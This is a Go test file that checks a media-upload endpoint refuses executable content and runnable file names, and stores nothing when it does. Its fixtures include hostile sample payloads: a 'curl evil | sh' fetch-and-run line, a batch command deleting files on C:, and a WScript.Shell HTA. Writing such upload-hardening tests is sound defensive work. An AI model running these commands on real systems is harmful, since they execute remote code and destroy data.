package rest_test

import (
	"bytes"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// Hardening item 10: a script behind a byte-order mark or blanks, and files whose
// name Windows or a JVM would run, are refused with a 400 and leave nothing behind.
func TestSaveMedia_RunnableNamesAndHiddenScriptsAreRefused(t *testing.T) {
	e := newMediaEnv(t)
	cases := []struct{ name, filename, content string }{
		{"shebang behind a byte-order mark", "invoice.pdf", "\xef\xbb\xbf#!/bin/sh\ncurl evil | sh\n"},
		{"shebang behind blank lines", "notes.txt", "\r\n  #!/usr/bin/env python3\nimport os\n"},
		{"batch file", "setup.bat", "@echo off\r\ndel /q C:\\*\r\n"},
		{"html application", "Invoice.HTA", "<html><script>new ActiveXObject('WScript.Shell')</script></html>"},
		{"java archive by name", "tool.jar", string(pdfHead)},
		{"trailing dots and spaces", "run.cmd. . ", "echo hi"},
		{"windows shortcut", "report.pdf.lnk", string(pdfHead)},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := e.sendSmall(t, e.token, fileField(tc.filename, strings.NewReader(tc.content)))
			m := expectError(t, r, http.StatusBadRequest)
			if msg := fmt.Sprint(m["message"]); !strings.Contains(msg, "executable") {
				t.Errorf("message %q does not say executable", msg)
			}
			if files := e.storedFiles(t); len(files) != 0 {
				t.Errorf("a refused upload left files in MEDIA_DIR: %v", files)
			}
		})
	}
	// The same content under a harmless name and without the hidden shebang is fine.
	e.upload(t, "notes.txt", []byte("\xef\xbb\xbfplain notes\n"))
	e.upload(t, "tool.pdf", bytes.Clone(pdfHead))
}
